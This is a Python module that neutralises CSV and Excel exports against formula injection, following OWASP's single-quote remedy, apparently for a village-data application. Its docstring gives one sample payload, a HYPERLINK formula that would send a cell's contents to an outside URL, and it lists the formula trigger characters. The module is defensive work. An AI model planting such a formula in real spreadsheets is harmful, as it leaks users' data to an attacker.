"""Files a spreadsheet opens (CSV, Excel) whose cells stay data: a village, a narrative or a reject row is never run.

A spreadsheet runs a cell that starts with =, +, -, @ (or a tab, carriage return or line feed before them) as a
formula, so `=HYPERLINK("http://…?d="&A2, "klik")` typed in the field would leak the sheet to whoever made it.
OWASP's remedy (https://owasp.org/www-community/attacks/CSV_Injection): prefix such a text cell with a single
quote. Numbers are not text and stay numbers, so a rate of -0.5 or a z-score of -3 reads as before.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any

import pandas as pd
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP's list (its current page adds line feed)
NOT_XML = "\ufffd"  # what a control character Excel cannot store becomes, so the cell is kept, not the workbook lost


def neutralise_cell(value: Any) -> Any:
    """A text cell a spreadsheet would run as a formula, prefixed with a single quote; any other value unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def is_text_column(values: pd.Series) -> bool:
    """Whether a column may hold text (object, string or categorical), as opposed to numbers, booleans or times."""
    dtype = values.dtype
    return not (pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_bool_dtype(dtype)
                or pd.api.types.is_datetime64_any_dtype(dtype) or pd.api.types.is_timedelta64_dtype(dtype))


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame as a spreadsheet may safely open it: every text cell and header neutralised, numbers untouched.

    Every CSV and Excel file written for a user goes through here. In a text column only the str cells change:
    a number or a date among them stays what it is, while text that reads like a number ("-5 orang") is text.
    """
    out = frame.copy()
    for position in range(out.shape[1]):
        values = out.iloc[:, position]
        if is_text_column(values):
            # Cell by cell into an object column: Series.map would re-infer types (1 beside 2.5 becoming 1.0).
            out.isetitem(position, pd.Series([neutralise_cell(value) for value in values], index=values.index,
                                             dtype=object))
    out.columns = [neutralise_cell(column) for column in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """The rows as a CSV download (UTF-8 with BOM, so Excel shows Indonesian names correctly), neutralised."""
    return neutralise(frame).to_csv(index=False).encode("utf-8-sig")


def csv_stream_bytes(frames: Iterable[pd.DataFrame]) -> bytes:
    """Frames of the same columns, one after the other, as one CSV download (the header once), neutralised."""
    parts = [neutralise(frame).to_csv(index=False, header=position == 0)
             for position, frame in enumerate(frames)]
    return "".join(parts).encode("utf-8-sig")


def excel_bytes(frame: pd.DataFrame, sheet: str = "Data") -> bytes:
    """The rows as an Excel workbook of one sheet, neutralised; text cells are typed as text, never formulas."""
    safe = neutralise(frame)
    text_positions = [position for position in range(safe.shape[1]) if is_text_column(safe.iloc[:, position])]
    for position in text_positions:
        # openpyxl refuses control characters (an officer's narrative may hold one) by raising mid-workbook.
        values = safe.iloc[:, position]
        safe.isetitem(position, pd.Series([ILLEGAL_CHARACTERS_RE.sub(NOT_XML, value) if isinstance(value, str)
                                           else value for value in values], index=values.index, dtype=object))
    safe.columns = [ILLEGAL_CHARACTERS_RE.sub(NOT_XML, c) if isinstance(c, str) else c for c in safe.columns]
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        safe.to_excel(writer, index=False, sheet_name=sheet[:31])
        worksheet = writer.sheets[sheet[:31]]
        # openpyxl types a str by its look: "=…" a formula, "#N/A" an error. Data is text, whatever it looks like.
        for row in worksheet.iter_rows():
            for cell in row:
                if cell.data_type in ("f", "e"):
                    cell.data_type = "s"
    return buffer.getvalue()
